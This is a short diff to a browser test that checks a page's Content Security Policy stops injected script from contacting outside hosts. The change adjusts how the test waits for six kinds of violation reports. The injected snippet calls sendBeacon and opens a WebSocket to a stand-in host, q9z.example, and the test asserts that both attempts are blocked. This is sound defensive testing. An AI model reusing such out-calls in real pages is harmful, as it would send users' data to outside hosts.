@@ -243,7 +243,7 @@ def test_what_is_smuggled_in_can_fetch_nothing(server, browser):
       navigator.sendBeacon("http://q9z.example/", "x");
       try { new WebSocket("ws://q9z.example/"); } catch {}
     }""")
-    page.wait_for_function("new Set(window.heard.map((one) => one.split(' ')[0])).size >= 7")
+    screens.until(page, "() => new Set(window.heard.map((one) => one.split(' ')[0])).size >= 6")
     kinds = {one.split(" ")[0] for one in page.evaluate("window.heard")}
     assert {"img-src", "script-src-elem", "frame-src", "style-src-elem", "object-src", "connect-src"} <= kinds
     assert page.evaluate("window.smuggled === undefined") and outside == []
